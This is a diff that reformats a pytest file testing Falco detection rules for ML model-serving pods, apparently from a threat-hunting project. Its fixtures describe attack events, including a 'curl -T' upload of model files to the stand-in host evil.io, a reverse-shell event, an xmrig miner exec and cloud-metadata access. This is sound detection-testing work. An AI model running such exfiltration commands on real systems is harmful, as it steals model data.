@@ -22,8 +22,16 @@ from mlhunt.errors import CatalogError
 from mlhunt.guard.falco import RULES_FILE, build_items, export_falco, load_catalog
 from tests.falco_lang import CMP_OPS, KNOWN_FIELDS, SET_OPS, ConditionError, evaluate, parse
 
-PRIORITIES = {"emergency", "alert", "critical", "error", "warning", "notice", "informational",
-              "debug"}  # fmt: skip
+PRIORITIES = {
+    "emergency",
+    "alert",
+    "critical",
+    "error",
+    "warning",
+    "notice",
+    "informational",
+    "debug",
+}
 _NAME = r"^[a-z_][a-z0-9_]*$"
 
 
@@ -87,9 +95,13 @@ class PluginVersions(_Item):
     required_plugin_versions: list[dict[str, Any]]
 
 
-KINDS = {"rule": FalcoRule, "macro": FalcoMacro, "list": FalcoList,
-         "required_engine_version": EngineVersion,
-         "required_plugin_versions": PluginVersions}  # fmt: skip
+KINDS = {
+    "rule": FalcoRule,
+    "macro": FalcoMacro,
+    "list": FalcoList,
+    "required_engine_version": EngineVersion,
+    "required_plugin_versions": PluginVersions,
+}
 
 
 def validate_rules_file(text: str) -> dict[str, Any]:
@@ -177,9 +189,16 @@ def test_rules_carry_their_mapping(defs: dict[str, Any]) -> None:
         assert "Tuning:" in rule.desc
 
 
-BROKEN = ["(proc.name = sh", "proc.name = sh)", "proc.name =", "proc.name exists and",
-          "proc.name in (sh, bash", "proc.name sh", "kube.pod.name = x",
-          "and proc.name = sh"]  # fmt: skip
+BROKEN = [
+    "(proc.name = sh",
+    "proc.name = sh)",
+    "proc.name =",
+    "proc.name exists and",
+    "proc.name in (sh, bash",
+    "proc.name sh",
+    "kube.pod.name = x",
+    "and proc.name = sh",
+]
 
 
 @pytest.mark.parametrize("condition", BROKEN)
@@ -189,16 +208,26 @@ def test_condition_reader_rejects_broken_conditions(condition: str) -> None:
 
 
 def test_schema_rejects_broken_items() -> None:
-    good = {"rule": "R x", "desc": "a rule that is described well", "condition": "evt.num = 0",
-            "output": "x %proc.name", "priority": "WARNING"}  # fmt: skip
+    good = {
+        "rule": "R x",
+        "desc": "a rule that is described well",
+        "condition": "evt.num = 0",
+        "output": "x %proc.name",
+        "priority": "WARNING",
+    }
     validate_rules_file(yaml.safe_dump([good]))
-    for bad in ({**good, "priority": "severe"}, {**good, "tags": "shell"}, {"macro": "m"},
-                {k: v for k, v in good.items() if k != "output"}, {**good, "macro": "m"},
-                {**good, "condition": "undefined_macro and evt.num = 0"},
-                {**good, "condition": "proc.name in (mlh_missing_list)"},
-                {**good, "condition": "proc.nmae = sh"}, {**good, "output": "%proc.nmae"},
-                {**good, "exceptions": [{"name": "e", "fields": ["proc.name"],
-                                         "comps": ["=", "="]}]}):  # fmt: skip
+    for bad in (
+        {**good, "priority": "severe"},
+        {**good, "tags": "shell"},
+        {"macro": "m"},
+        {k: v for k, v in good.items() if k != "output"},
+        {**good, "macro": "m"},
+        {**good, "condition": "undefined_macro and evt.num = 0"},
+        {**good, "condition": "proc.name in (mlh_missing_list)"},
+        {**good, "condition": "proc.nmae = sh"},
+        {**good, "output": "%proc.nmae"},
+        {**good, "exceptions": [{"name": "e", "fields": ["proc.name"], "comps": ["=", "="]}]},
+    ):
         with pytest.raises((ValidationError, AssertionError)):
             validate_rules_file(yaml.safe_dump([bad]))
 
@@ -211,10 +240,12 @@ def test_catalog_validation_catches_bad_units(tmp_path: Path) -> None:
     cases = {
         "atlas": {**unit, "atlas": ["AML.T9999"]},
         "misses mlh_model_serving_container": {
-            **unit, "falco": [{**unit["falco"][-1], "condition": "evt.num = 0"}]},
+            **unit,
+            "falco": [{**unit["falco"][-1], "condition": "evt.num = 0"}],
+        },
         "exactly one rule": {**unit, "falco": [*unit["falco"][:-1], {"macro": "m_x"}]},
         "id": {**unit, "id": "FALCO-1"},
-    }  # fmt: skip
+    }
     for needle, broken in cases.items():
         path = tmp_path / "rules.yaml"
         path.write_text(yaml.safe_dump({**data, "rules": [broken]}), encoding="utf-8")
@@ -224,28 +255,59 @@ def test_catalog_validation_catches_bad_units(tmp_path: Path) -> None:
 
 # --- the rules fire on what they name (events as Falco's fields would show them) ---
 
-SERVING = {"container.id": "3f2a9c1b7d4e", "container.name": "kserve-container",
-           "container.image.repository": "docker.io/kserve/sklearnserver",
-           "k8s.pod.name": "loan-predictor-0", "k8s.ns.name": "models", "user.name": "root",
-           "proc.name": "python3", "proc.pname": "python3",
-           "proc.cmdline": "python3 -m sklearnserver", "proc.tty": 0,
-           "proc.is_exe_upper_layer": False, "evt.num": 48213}  # fmt: skip
+SERVING = {
+    "container.id": "3f2a9c1b7d4e",
+    "container.name": "kserve-container",
+    "container.image.repository": "docker.io/kserve/sklearnserver",
+    "k8s.pod.name": "loan-predictor-0",
+    "k8s.ns.name": "models",
+    "user.name": "root",
+    "proc.name": "python3",
+    "proc.pname": "python3",
+    "proc.cmdline": "python3 -m sklearnserver",
+    "proc.tty": 0,
+    "proc.is_exe_upper_layer": False,
+    "evt.num": 48213,
+}
 
 
 def _exec(name: str, **kw: Any) -> dict[str, Any]:
-    return {**SERVING, "evt.type": "execve", "evt.dir": "<", "proc.name": name,
-            "proc.cmdline": kw.pop("cmdline", name), **kw}  # fmt: skip
+    return {
+        **SERVING,
+        "evt.type": "execve",
+        "evt.dir": "<",
+        "proc.name": name,
+        "proc.cmdline": kw.pop("cmdline", name),
+        **kw,
+    }
 
 
 def _connect(ip: str, **kw: Any) -> dict[str, Any]:
-    return {**SERVING, "evt.type": "connect", "evt.dir": "<", "fd.typechar": "4",
-            "fd.sip": ip, "fd.snet": ip, "fd.sport": 443, "evt.rawres": 0, "evt.res": "SUCCESS",
-            **kw}  # fmt: skip
+    return {
+        **SERVING,
+        "evt.type": "connect",
+        "evt.dir": "<",
+        "fd.typechar": "4",
+        "fd.sip": ip,
+        "fd.snet": ip,
+        "fd.sport": 443,
+        "evt.rawres": 0,
+        "evt.res": "SUCCESS",
+        **kw,
+    }
 
 
 def _write(path: str, **kw: Any) -> dict[str, Any]:
-    return {**SERVING, "evt.type": "openat", "evt.dir": "<", "evt.is_open_write": True,
-            "fd.typechar": "f", "fd.num": 7, "fd.name": path, **kw}  # fmt: skip
+    return {
+        **SERVING,
+        "evt.type": "openat",
+        "evt.dir": "<",
+        "evt.is_open_write": True,
+        "fd.typechar": "f",
+        "fd.num": 7,
+        "fd.name": path,
+        **kw,
+    }
 
 
 def _dup(rawres: int, fdtype: str) -> dict[str, Any]:
@@ -253,47 +315,65 @@ def _dup(rawres: int, fdtype: str) -> dict[str, Any]:
 
 
 OTHER_POD = {"container.image.repository": "docker.io/library/redis", "container.name": "redis"}
-STORAGE_INIT = {"container.image.repository": "kserve/storage-initializer",
-                "container.name": "storage-initializer"}  # fmt: skip
+STORAGE_INIT = {
+    "container.image.repository": "kserve/storage-initializer",
+    "container.name": "storage-initializer",
+}
 FIRES = {
-    "MLH-FALCO-SERVING-SHELL": [_exec("sh", cmdline="sh -c id"),
-                                _exec("bash", **{"proc.pname": "runc", "proc.tty": 34816}),
-                                {**_exec("sh"), "container.image.repository": "acme/scorer",
-                                 "k8s.pod.label[serving.kserve.io/inferenceservice]": "loan"}],
-    "MLH-FALCO-SERVING-PKG-MANAGER": [_exec("pip", cmdline="pip install requests"),
-                                      _exec("python3", cmdline="python3 -m pip install x")],
+    "MLH-FALCO-SERVING-SHELL": [
+        _exec("sh", cmdline="sh -c id"),
+        _exec("bash", **{"proc.pname": "runc", "proc.tty": 34816}),
+        {
+            **_exec("sh"),
+            "container.image.repository": "acme/scorer",
+            "k8s.pod.label[serving.kserve.io/inferenceservice]": "loan",
+        },
+    ],
+    "MLH-FALCO-SERVING-PKG-MANAGER": [
+        _exec("pip", cmdline="pip install requests"),
+        _exec("python3", cmdline="python3 -m pip install x"),
+    ],
     "MLH-FALCO-SERVING-NET-TOOL": [_exec("curl", cmdline="curl -T /mnt/models/m.pkl evil.io")],
     "MLH-FALCO-SERVING-REVERSE-SHELL": [_dup(0, "ipv4"), _dup(2, "ipv6")],
     "MLH-FALCO-SERVING-DROP-EXEC": [_exec("xmrig", **{"proc.is_exe_upper_layer": True})],
-    "MLH-FALCO-INFERENCE-OUTBOUND": [_connect("93.184.216.34"),
-                                     _connect("203.0.113.9", **{"evt.rawres": -115,
-                                                                "evt.res": "EINPROGRESS"})],
+    "MLH-FALCO-INFERENCE-OUTBOUND": [
+        _connect("93.184.216.34"),
+        _connect("203.0.113.9", **{"evt.rawres": -115, "evt.res": "EINPROGRESS"}),
+    ],
     "MLH-FALCO-SERVING-METADATA": [_connect("169.254.169.254", **{"fd.sport": 80})],
     "MLH-FALCO-MODEL-WRITE": [_write("/mnt/models/model.joblib"), _write("/tmp/backdoor.pt")],
-}  # fmt: skip
+}
 QUIET = [  # what a model server and its pod do all day, and look-alikes outside serving pods
     _exec("python3", **{"proc.pname": "containerd-shim"}),
     _exec("sh", cmdline="sh -c tritonserver", **{"proc.pname": "runc:[1:CHILD]"}),
     _exec("curl", cmdline="curl -f localhost:8080/v2/health", **{"proc.pname": "runc"}),
-    {**_exec("sh"), **OTHER_POD}, {**_exec("sh"), "container.id": "host"},
+    {**_exec("sh"), **OTHER_POD},
+    {**_exec("sh"), "container.id": "host"},
     {**_exec("pip"), **OTHER_POD},
-    _connect("10.96.0.10", **{"fd.sport": 53}), _connect("127.0.0.1"),
+    _connect("10.96.0.10", **{"fd.sport": 53}),
+    _connect("127.0.0.1"),
     _connect("93.184.216.34", **{"evt.rawres": -111, "evt.res": "ECONNREFUSED"}),
     {**_connect("93.184.216.34"), **OTHER_POD},
-    _dup(1, "file"), _dup(5, "ipv4"),
-    _write("/tmp/request.log"), {**_write("/mnt/models/model.joblib"), **STORAGE_INIT},
+    _dup(1, "file"),
+    _dup(5, "ipv4"),
+    _write("/tmp/request.log"),
+    {**_write("/mnt/models/model.joblib"), **STORAGE_INIT},
     {**_write("/mnt/models/model.joblib"), "evt.is_open_write": False},
     {**_write("/mnt/models/model.pt"), "k8s.pod.label[training.kubeflow.org/job-name]": "train"},
     {**_write("/mnt/models/model.pt"), **OTHER_POD},
-]  # fmt: skip
+]
 
 
-def _fired(defs: dict[str, Any], event: dict[str, Any], macros: dict[str, Any] | None = None
-           ) -> set[str]:  # fmt: skip
+def _fired(
+    defs: dict[str, Any], event: dict[str, Any], macros: dict[str, Any] | None = None
+) -> set[str]:
     ids = {u.rule["rule"]: u.id for u in load_catalog().rules}
     macros = macros or {name: p.ast for name, (_m, p) in defs["macro"].items()}
-    return {ids[name] for name, (_r, p) in defs["rule"].items()
-            if evaluate(p.ast, event, macros, defs["list"])}  # fmt: skip
+    return {
+        ids[name]
+        for name, (_r, p) in defs["rule"].items()
+        if evaluate(p.ast, event, macros, defs["list"])
+    }
 
 
 def test_each_rule_fires_on_its_behaviour_only(defs: dict[str, Any]) -> None:
@@ -330,6 +410,7 @@ def test_export_into_a_file_path_is_one_line_input_error(tmp_path: Path) -> None
 
 @pytest.mark.skipif(shutil.which("falco") is None, reason="the falco binary is not installed")
 def test_falco_binary_validates_the_export(exported: Path) -> None:
-    proc = subprocess.run(["falco", "-V", str(exported)], capture_output=True, text=True,
-                          timeout=120, check=False)  # fmt: skip
+    proc = subprocess.run(
+        ["falco", "-V", str(exported)], capture_output=True, text=True, timeout=120, check=False
+    )
     assert proc.returncode == 0, proc.stdout + proc.stderr
